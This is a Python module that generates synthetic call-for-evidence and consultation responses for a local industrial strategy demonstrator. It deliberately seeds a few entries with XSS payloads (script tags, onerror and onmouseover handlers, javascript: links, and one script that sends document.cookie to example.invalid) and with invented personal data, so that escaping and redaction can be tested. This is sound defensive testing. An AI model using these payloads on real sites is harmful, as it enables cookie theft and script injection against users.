"""Synthetic call-for-evidence and consultation responses for the demonstrator.

:func:`write_demo_evidence` writes, deterministically from a seed, the files an officer
would keep in ``data/raw/evidence/``: call-for-evidence responses (a CSV, one row per
respondent per question, and a few Markdown submissions with a YAML header), consultation
responses (an XLSX workbook) and a partly filled consideration log (CSV). Every file says
it is synthetic (a title row, a ``synthetic`` column, a header field, a README), every
organisation is named "... (synthetic)", and a handful of responses carry hostile markup
and personal data so that the escaping and redaction are exercised on the demo pages.

The texts are assembled from sentences written for this purpose; they are plausible, not
real. Nothing here is read from real responses.
"""

from __future__ import annotations

import csv
from datetime import datetime
from pathlib import Path
from typing import Any

import numpy as np

from . import _xlsx
from .world import LABEL

#: Default seed: the month the L&L call for evidence closed.
SEED = 20190208

_DISTRICTS = [
    "Leicester",
    "Blaby",
    "Charnwood",
    "Harborough",
    "Hinckley and Bosworth",
    "Melton",
    "North West Leicestershire",
    "Oadby and Wigston",
]
_DISTRICT_P = np.array([0.34, 0.08, 0.16, 0.09, 0.10, 0.06, 0.10, 0.07])

_TYPES = ["public", "private", "voluntary", "education", "individual"]

#: (organisation stem, sector) per type; names get " (synthetic)" appended.
_ORGS = {
    "private": [
        ("Demo Precision Engineering Ltd", "Manufacturing"),
        ("Demo Foods Ltd", "Food and drink manufacturing"),
        ("Demo Knitwear Ltd", "Textiles"),
        ("Demo Logistics Ltd", "Transport and storage"),
        ("Demo Software Ltd", "Information and communication"),
        ("Demo Space Systems Ltd", "Aerospace"),
        ("Demo Construction Ltd", "Construction"),
        ("Demo Chamber of Commerce", "Business representation"),
        ("Demo Home Care Ltd", "Health and social care"),
        ("Demo Print and Packaging Ltd", "Manufacturing"),
        ("Demo Accountants LLP", "Professional services"),
        ("Demo Hotels Ltd", "Accommodation and food"),
        ("Demo Motorsport Engineering Ltd", "Automotive"),
        ("Demo Retail Group Ltd", "Retail"),
    ],
    "public": [
        ("Demo District Council", "Public administration"),
        ("Demo County Council", "Public administration"),
        ("Demo City Council", "Public administration"),
        ("Demo Clinical Commissioning Group", "Health"),
        ("Demo Parish Council", "Public administration"),
        ("Demo Growth Hub", "Business support"),
    ],
    "voluntary": [
        ("Demo Community Trust", "Community"),
        ("Demo Rural Community Council", "Community"),
        ("Demo Employment Charity", "Employment support"),
        ("Demo Older People's Forum", "Community"),
        ("Demo Housing Association", "Housing"),
        ("Demo Environment Network", "Environment"),
    ],
    "education": [
        ("Demo University", "Higher education"),
        ("Demo Technical College", "Further education"),
        ("Demo Academy Trust", "Schools"),
        ("Demo Sixth Form College", "Further education"),
    ],
}

#: Sentences per theme (taxonomy ids), as respondents might write them.
_SENTENCES = {
    "innovation_rd": [
        "Very few firms here invest in research and development, and most innovation is incremental.",
        "We would innovate more if there were help to share the cost of testing new products.",
        "Local businesses rarely apply for Innovate UK funding because the process is daunting.",
    ],
    "university_links": [
        "The universities are a real asset, but small firms find it hard to know who to talk to.",
        "A knowledge transfer partnership with the university transformed our design process.",
        "The Space Park could anchor a cluster if local suppliers are brought in early.",
    ],
    "skills_shortages": [
        "We cannot recruit skilled engineers and vacancies stay open for months.",
        "The skills gap in welding and machining is getting worse as staff retire.",
        "Finding qualified staff is the single biggest barrier to our growth.",
        "Many applicants lack basic skills in maths and English.",
    ],
    "technical_education": [
        "Apprenticeships work well for us, but the levy is too complicated for small firms.",
        "Colleges need modern equipment so that training matches what industry uses.",
        "Careers advice in schools rarely mentions manufacturing or logistics.",
    ],
    "low_pay": [
        "Too many local jobs are low paid, and wages have not kept up with living costs.",
        "Residents commute out because better paid jobs are elsewhere.",
        "We pay the living wage, but many competitors do not.",
    ],
    "graduate_retention": [
        "Most graduates leave the area because they cannot see a career here.",
        "We must retain graduates by connecting them with local employers before they finish.",
    ],
    "worklessness": [
        "Long-term unemployment is concentrated in a few neighbourhoods.",
        "Many residents who are economically inactive want to work but face barriers to work such as childcare.",
    ],
    "digital_connectivity": [
        "Broadband in the villages is too slow for a modern business.",
        "Full fibre coverage is patchy and mobile signal drops out on the main roads.",
        "Gigabit broadband should be a condition of every new business park.",
    ],
    "transport_congestion": [
        "Congestion on the A46 and at junction 21 adds cost to every delivery.",
        "Public transport does not reach the industrial estates when shifts start.",
        "The rail link to London is good, but east-west journey times are poor.",
    ],
    "housing_supply": [
        "House prices have risen far faster than local earnings.",
        "We need more affordable homes near where the jobs are.",
    ],
    "employment_land": [
        "There is a shortage of industrial units for firms that want to expand.",
        "Start-ups leaving the incubator cannot find grow-on space nearby.",
        "Employment land is being lost to housing.",
    ],
    "productivity_gap": [
        "Productivity is below the national average and the gap has widened.",
        "Lean manufacturing support helped us raise output per hour by a fifth.",
    ],
    "business_support_finance": [
        "Access to finance is hard for firms without property to offer as security.",
        "Business support is fragmented and firms do not know where to go.",
        "The Growth Hub has been helpful but its grants are oversubscribed.",
    ],
    "start_ups_scale_ups": [
        "Plenty of start-ups begin here but few scale up.",
        "Entrepreneurs need mentoring in the first three years, when most new businesses fail.",
    ],
    "manufacturing_engineering": [
        "Advanced manufacturing is a real strength of the area and should be at the heart of the strategy.",
        "The textiles and food and drink sectors still employ thousands of people.",
        "Our engineering supply chain serves aerospace and automotive customers worldwide.",
    ],
    "logistics_distribution": [
        "The area sits in the golden triangle and logistics is a growing strength.",
        "Warehousing jobs are plentiful, and the rail freight terminal is a major asset.",
    ],
    "exports_trade": [
        "Exporting is seen as risky, and few small firms sell overseas.",
        "Help to find new markets abroad would make a real difference.",
    ],
    "town_centres": [
        "The city centre has too many empty shops and footfall is falling.",
        "Our market towns need investment in their high streets.",
        "Business rates are crippling independent retailers.",
    ],
    "rural_economy": [
        "The rural economy is overlooked: farms and village businesses need support too.",
        "Agriculture and land-based businesses are diversifying into tourism and energy.",
    ],
    "deprivation_inequality": [
        "Growth has passed the most deprived neighbourhoods by.",
        "The strategy should aim for inclusive growth that reaches people left behind.",
    ],
    "culture_visitor_economy": [
        "The National Forest and our heritage attract visitors from across the country.",
        "Sport and culture give the city an identity that investors notice.",
    ],
    "ai_data": [
        "Few manufacturers use data analytics or automation yet.",
        "Artificial intelligence will change office work, and firms need help to adopt it.",
        "Cyber security and digital skills are scarce among small firms.",
    ],
    "ageing_society": [
        "With an ageing population, social care will need many more workers.",
        "Older workers want flexible hours, and employers who offer them keep experience.",
        "Assisted living technology is an opportunity for local firms.",
    ],
    "clean_growth_energy": [
        "Businesses want help to cut energy bills and reach net zero.",
        "Grid capacity is a constraint on new low carbon development.",
        "Solar panels and insulation would pay back quickly with the right support.",
    ],
    "future_of_mobility": [
        "There are not enough charging points for electric vehicles.",
        "MIRA Technology Park puts the area at the front of connected and autonomous vehicles.",
        "Active travel routes to employment sites would reduce congestion.",
    ],
}

#: Themes each question draws on (question -> theme ids).
_QUESTION_THEMES = {
    "Q1": [
        "manufacturing_engineering",
        "logistics_distribution",
        "productivity_gap",
        "skills_shortages",
        "transport_congestion",
        "university_links",
    ],
    "Q2": ["innovation_rd", "university_links", "start_ups_scale_ups"],
    "Q3": [
        "skills_shortages",
        "technical_education",
        "low_pay",
        "graduate_retention",
        "worklessness",
    ],
    "Q4": ["digital_connectivity", "transport_congestion", "housing_supply", "employment_land"],
    "Q5": [
        "business_support_finance",
        "start_ups_scale_ups",
        "exports_trade",
        "employment_land",
        "productivity_gap",
    ],
    "Q6": ["town_centres", "rural_economy", "deprivation_inequality", "culture_visitor_economy"],
    "Q7": ["ai_data", "skills_shortages"],
    "Q8": ["ageing_society", "low_pay"],
    "Q9": ["clean_growth_energy", "rural_economy"],
    "Q10": ["future_of_mobility", "transport_congestion"],
}
_QUESTION_P = np.array([0.22, 0.08, 0.14, 0.12, 0.10, 0.09, 0.07, 0.06, 0.07, 0.05])

_OPENERS = [
    "",
    "",
    "From our experience, ",
    "Speaking for our members, ",
    "In short, ",
    "As a local employer, ",
]

#: Hostile or personal texts (respondent index -> (question, text)): the demo pages must
#: show these escaped and redacted.
_HOSTILE_CFE = [
    (
        "Q4",
        "<script>alert('synthetic test')</script> Broadband in the villages is too slow for a modern business.",
    ),
    (
        "Q3",
        "<img src=x onerror=alert(1)> We cannot recruit skilled engineers and vacancies stay open for months.",
    ),
    (
        "Q5",
        "See [our report](javascript:alert('synthetic')) on why access to finance is hard for small firms.",
    ),
    (
        "Q6",
        "I run a shop on the high street and footfall is falling. Call me on 0116 496 0123 or email "
        "jo.bloggs.synthetic@example.com, or write to 12 Demo Street, Leicester LE1 9ZZ.",
    ),
]

# ---- consultation ------------------------------------------------------------------

_PRIORITIES = ["P1", "P2", "P3", "P4", "P5", "P6"]
_SCALE = [
    "Strongly agree",
    "Agree",
    "Neither agree nor disagree",
    "Disagree",
    "Strongly disagree",
    "Don't know",
    "",
]
#: Base probabilities over _SCALE per priority.
_BASE_P = {
    "P1": [0.22, 0.38, 0.17, 0.09, 0.04, 0.05, 0.05],
    "P2": [0.20, 0.36, 0.20, 0.08, 0.03, 0.08, 0.05],
    "P3": [0.35, 0.40, 0.10, 0.05, 0.02, 0.03, 0.05],
    "P4": [0.30, 0.38, 0.13, 0.07, 0.04, 0.03, 0.05],
    "P5": [0.25, 0.33, 0.17, 0.11, 0.06, 0.03, 0.05],
    "P6": [0.28, 0.30, 0.14, 0.12, 0.08, 0.03, 0.05],
}
#: Shift towards agreement (+) or disagreement (-) by respondent type and priority.
_TILT = {
    ("private", "P1"): 0.6,
    ("private", "P6"): -0.4,
    ("education", "P2"): 0.7,
    ("education", "P3"): 0.5,
    ("voluntary", "P5"): 0.5,
    ("voluntary", "P1"): -0.3,
    ("individual", "P4"): 0.3,
    ("individual", "P2"): -0.3,
    ("public", "P5"): 0.4,
}
_COMMENT_THEMES = {
    "P1": ["productivity_gap", "manufacturing_engineering", "logistics_distribution"],
    "P2": ["university_links", "innovation_rd"],
    "P3": ["skills_shortages", "technical_education", "low_pay"],
    "P4": ["digital_connectivity", "transport_congestion", "employment_land", "housing_supply"],
    "P5": ["town_centres", "rural_economy", "deprivation_inequality"],
    "P6": ["clean_growth_energy", "future_of_mobility"],
}
_HOSTILE_COMMENTS = [
    "<script>document.location='https://example.invalid/'+document.cookie</script> The skills priority is right.",
    "Please contact me at sam.synthetic@example.org or 07700 900123 about the rural broadband point.",
    "Good draft. [More detail](javascript:alert(document.domain)) is needed on transport.",
]


def _org(rng: np.random.Generator, otype: str) -> tuple[str, str]:
    if otype == "individual":
        return "", ""
    name, sector = _ORGS[otype][rng.integers(len(_ORGS[otype]))]
    return f"{name} (synthetic)", sector


def _response(rng: np.random.Generator, question: str) -> str:
    themes = _QUESTION_THEMES[question]
    k = int(rng.choice([1, 2, 3], p=[0.35, 0.45, 0.20]))
    picks = list(rng.choice(themes, size=min(k, len(themes)), replace=False))
    if rng.random() < 0.25:  # respondents stray beyond the question
        picks.append(rng.choice(sorted(_SENTENCES)))
    sentences = []
    for t in dict.fromkeys(picks):
        bank = _SENTENCES[t]
        sentences.append(bank[rng.integers(len(bank))])
    opener = _OPENERS[rng.integers(len(_OPENERS))]
    text = " ".join(sentences)
    return (opener + text[0].lower() + text[1:]) if opener else text


def _call_for_evidence_rows(rng: np.random.Generator, n_respondents: int) -> list[dict[str, str]]:
    type_p = np.array([0.15, 0.40, 0.15, 0.10, 0.20])
    rows = []
    hostile = {3: 0, 11: 1, 27: 2, 40: 3}  # respondent index -> _HOSTILE_CFE entry
    qids = [f"Q{i}" for i in range(1, 11)]
    for i in range(n_respondents):
        rid = f"CFE{i + 1:03d}"
        otype = str(rng.choice(_TYPES, p=type_p))
        org, sector = _org(rng, otype)
        if i in hostile:  # the personal-data case is an individual
            otype, org, sector = ("individual", "", "") if hostile[i] == 3 else (otype, org, sector)
        location = str(rng.choice(_DISTRICTS, p=_DISTRICT_P))
        n_q = int(rng.choice([1, 2, 3, 4], p=[0.30, 0.35, 0.25, 0.10]))
        questions = list(rng.choice(qids, size=n_q, replace=False, p=_QUESTION_P))
        if i in hostile:
            questions = [_HOSTILE_CFE[hostile[i]][0]] + [
                q for q in questions if q != _HOSTILE_CFE[hostile[i]][0]
            ]
        for q in sorted(questions, key=lambda s: int(s[1:])):
            if i in hostile and q == _HOSTILE_CFE[hostile[i]][0]:
                text = _HOSTILE_CFE[hostile[i]][1]
            else:
                text = _response(rng, q)
            rows.append(
                {
                    "respondent_id": rid,
                    "organisation": org,
                    "organisation_type": otype,
                    "sector": sector,
                    "location": location,
                    "question_id": q,
                    "text": text,
                    "synthetic": "yes",
                }
            )
    return rows


_SUBMISSIONS: list[dict[str, Any]] = [
    {
        "respondent": "SUB001",
        "organisation": "Demo University (synthetic)",
        "organisation_type": "education",
        "sector": "Higher education",
        "location": "Leicester",
        "questions": ["Q2", "Q3"],
        "sections": {
            "Q2": ["university_links", "innovation_rd"],
            "Q3": ["graduate_retention", "technical_education"],
        },
    },
    {
        "respondent": "SUB002",
        "organisation": "Demo Chamber of Commerce (synthetic)",
        "organisation_type": "private",
        "sector": "Business representation",
        "location": "Leicester",
        "questions": ["Q1", "Q5"],
        "sections": {
            "Q1": ["manufacturing_engineering", "productivity_gap"],
            "Q5": ["business_support_finance", "exports_trade"],
        },
    },
    {
        "respondent": "SUB003",
        "organisation": "Demo Rural Community Council (synthetic)",
        "organisation_type": "voluntary",
        "sector": "Community",
        "location": "Melton",
        "question_id": "Q6",
        "sections": {"Q6": ["rural_economy", "digital_connectivity"]},
    },
    {
        "respondent": "SUB004",
        "organisation": "Demo Environment Network (synthetic)",
        "organisation_type": "voluntary",
        "sector": "Environment",
        "location": "Charnwood",
        "question_id": "Q9",
        "sections": {"Q9": ["clean_growth_energy", "future_of_mobility"]},
    },
    {
        "respondent": "SUB005",
        "organisation": "Demo County Council (synthetic)",
        "organisation_type": "public",
        "sector": "Public administration",
        "location": "Leicestershire",
        "questions": ["Q4", "Q8", "Q10"],
        "sections": {
            "Q4": ["transport_congestion", "housing_supply", "employment_land"],
            "Q8": ["ageing_society"],
            "Q10": ["future_of_mobility"],
        },
    },
    {
        "respondent": "SUB006",
        "organisation": "Demo Software Ltd (synthetic)",
        "organisation_type": "private",
        "sector": "Information and communication",
        "location": "Leicester",
        "question_id": "Q7",
        "sections": {"Q7": ["ai_data", "skills_shortages"]},
        "hostile": "Our view is in [this note](javascript:alert('synthetic')) <b onmouseover=alert(1)>here</b>.",
    },
]


def _write_submission(path: Path, spec: dict[str, Any], rng: np.random.Generator) -> Path:
    head = [
        "---",
        f"# {LABEL}: an invented submission",
        f"respondent: {spec['respondent']}",
        f'organisation: "{spec["organisation"]}"',
        f"organisation_type: {spec['organisation_type']}",
        f"sector: {spec['sector']}",
        f"location: {spec['location']}",
    ]
    if "questions" in spec:
        head.append(f"questions: [{', '.join(spec['questions'])}]")
    else:
        head.append(f"question_id: {spec['question_id']}")
    head += ["synthetic: true", "---", ""]
    body: list[str] = []
    multi = "questions" in spec
    for q, themes in spec["sections"].items():
        if multi:
            body += [f"## {q}", ""]
        for t in themes:
            bank = _SENTENCES[t]
            body.append(
                " ".join(
                    bank[k]
                    for k in sorted(rng.choice(len(bank), size=min(2, len(bank)), replace=False))
                )
            )
            body.append("")
    if spec.get("hostile"):
        body += [spec["hostile"], ""]
    path.write_text("\n".join(head + body), encoding="utf-8")
    return path


def _agreement(rng: np.random.Generator, otype: str, pid: str) -> str:
    p = np.array(_BASE_P[pid], dtype=float)
    tilt = _TILT.get((otype, pid), 0.0)
    if tilt:
        # move probability mass between the agree (0, 1) and disagree (3, 4) ends
        weights = np.exp(tilt * np.array([1.0, 0.5, 0.0, -0.5, -1.0, 0.0, 0.0]))
        p = p * weights
    p = p / p.sum()
    return _SCALE[int(rng.choice(len(_SCALE), p=p))]


def _comment(rng: np.random.Generator, answers: dict[str, str]) -> str:
    # comment on the priority the respondent felt most strongly about
    strong = [
        p for p, a in answers.items() if a in ("Strongly agree", "Strongly disagree", "Disagree")
    ]
    pids = strong or _PRIORITIES
    pid = pids[rng.integers(len(pids))]
    theme = _COMMENT_THEMES[pid][rng.integers(len(_COMMENT_THEMES[pid]))]
    bank = _SENTENCES[theme]
    text = bank[rng.integers(len(bank))]
    if answers.get(pid) in ("Disagree", "Strongly disagree"):
        text = f"I disagree with {pid} as drafted. " + text
    if rng.random() < 0.3:
        other = sorted(_SENTENCES)[rng.integers(len(_SENTENCES))]
        text += " " + _SENTENCES[other][rng.integers(len(_SENTENCES[other]))]
    return text


def _write_consultation(path: Path, rng: np.random.Generator, n: int) -> Path:
    type_p = np.array([0.10, 0.20, 0.15, 0.10, 0.45])
    header = [
        "respondent_id",
        "organisation",
        "organisation_type",
        *_PRIORITIES,
        "comments",
        "synthetic",
    ]
    book = _xlsx.workbook(path)
    # a fixed creation date keeps the bytes the same from run to run
    book.set_properties({"title": LABEL, "created": datetime(2019, 10, 1)})
    ws = book.add_worksheet("responses")
    ws.write(
        0, 0, f"{LABEL}: invented responses to the draft Local Industrial Strategy consultation"
    )
    for c, h in enumerate(header):
        ws.write(1, c, h)
    hostile_rows = {17: 0, 123: 1, 250: 2}
    for i in range(n):
        otype = str(rng.choice(_TYPES, p=type_p))
        org, _ = _org(rng, otype)
        answers = {pid: _agreement(rng, otype, pid) for pid in _PRIORITIES}
        comment = ""
        if i in hostile_rows:
            comment = _HOSTILE_COMMENTS[hostile_rows[i]]
        elif rng.random() < 0.45:
            comment = _comment(rng, answers)
        if i == 42:  # flawed cells, as real files have them: reported, not dropped
            answers["P2"] = "Agre"
        if i == 43:
            otype = "other"
        row = [f"CON{i + 1:04d}", org, otype, *answers.values(), comment, "yes"]
        for c, v in enumerate(row):
            if v != "":
                ws.write_string(i + 2, c, v)
    book.close()
    return path


_LOG = [
    (
        "PT01",
        "P3",
        "Respondents support P3 and ask for more apprenticeships for small firms.",
        "Agreed: the strategy now commits to an apprenticeship brokerage for SMEs.",
        "Action 3.2 added",
        "Demo Officer A (synthetic)",
        "2019-11-04",
    ),
    (
        "PT02",
        "P4",
        "Rural broadband and mobile coverage are raised repeatedly.",
        "Digital connectivity is now named as an enabling priority, with a gigabit target.",
        "Target added to P4",
        "Demo Officer B (synthetic)",
        "2019-11-06",
    ),
    (
        "PT03",
        "P6",
        "Some private respondents fear net zero costs for manufacturers.",
        "Noted; the evidence shows energy costs matter, so support for energy efficiency is emphasised.",
        "No change",
        "Demo Officer A (synthetic)",
        "2019-11-08",
    ),
    (
        "PT04",
        "town_centres",
        "Empty shops and falling footfall in the city centre and market towns.",
        "",
        "",
        "",
        "",
    ),
    (
        "PT05",
        "transport_congestion",
        "Congestion on the A46 and junction 21 of the M1.",
        "Passed to the transport board; the strategy cites the Midlands Connect programme.",
        "Reference added",
        "Demo Officer C (synthetic)",
        "12/11/2019",
    ),
    (
        "PT06",
        "P1",
        "Manufacturers want productivity support beyond lean programmes.",
        "",
        "",
        "",
        "",
    ),
    (
        "PT07",
        "university_links",
        "Firms find it hard to work with the universities.",
        "",
        "",
        "",
        "",
    ),
]


def _write_log(path: Path) -> Path:
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(
            [
                "point_id",
                "theme_or_priority",
                "point",
                "response",
                "change_made",
                "officer",
                "date",
                "synthetic",
            ]
        )
        for row in _LOG:
            w.writerow([*row, "yes"])
    return path


def write_demo_evidence(
    out_dir: Path,
    seed: int = SEED,
    *,
    n_respondents: int = 64,
    n_consultation: int = 300,
) -> list[Path]:
    """Write the synthetic evidence files into ``out_dir`` (created if missing).

    Parameters
    ----------
    out_dir : the folder (the demonstrator's ``evidence/``)
    seed : seed of the ``numpy.random.Generator``; the same seed gives the same bytes
    n_respondents : call-for-evidence respondents in the CSV (six Markdown submissions are
        added, so the default gives 70 submissions)
    n_consultation : consultation respondents

    Returns
    -------
    list of Path
        ``README.md``, ``call_for_evidence_responses_synthetic.csv``, six
        ``submissions/*.md``, ``consultation_responses_synthetic.xlsx`` and
        ``consideration_log_synthetic.csv``.
    """
    out_dir = Path(out_dir)
    (out_dir / "submissions").mkdir(parents=True, exist_ok=True)
    rng = np.random.default_rng(seed)
    files = []

    readme = out_dir / "README.md"
    readme.write_text(
        f"# {LABEL}\n\n"
        "Invented call-for-evidence submissions, consultation responses and a consideration\n"
        "log, written by `lis demo` (lis_analysis.demo.evidence). No real person or organisation\n"
        'responded; every organisation name ends in "(synthetic)". Some responses contain\n'
        "markup and made-up personal data on purpose, to test escaping and redaction, and a few\n"
        "rows are flawed on purpose (a duplicate, an unknown question, an empty answer, a\n"
        "misspelt agreement value, an unknown respondent type) to show the ingest report.\n",
        encoding="utf-8",
    )
    files.append(readme)

    cfe = out_dir / "call_for_evidence_responses_synthetic.csv"
    rows = _call_for_evidence_rows(rng, n_respondents)
    # three flawed rows, as real files have them: the ingest report must show them rejected
    rows.append({**rows[0], "text": "A second, later answer to the same question."})  # duplicate
    rows.append({**rows[1], "question_id": "Q11"})  # no such question
    rows.append(
        {**rows[2], "question_id": "Q10" if rows[2]["question_id"] != "Q10" else "Q9", "text": " "}
    )
    with cfe.open("w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    files.append(cfe)

    for spec in _SUBMISSIONS:
        files.append(
            _write_submission(
                out_dir / "submissions" / f"{spec['respondent'].lower()}_synthetic.md", spec, rng
            )
        )

    files.append(
        _write_consultation(out_dir / "consultation_responses_synthetic.xlsx", rng, n_consultation)
    )
    files.append(_write_log(out_dir / "consideration_log_synthetic.csv"))
    return files


__all__ = ["SEED", "write_demo_evidence"]
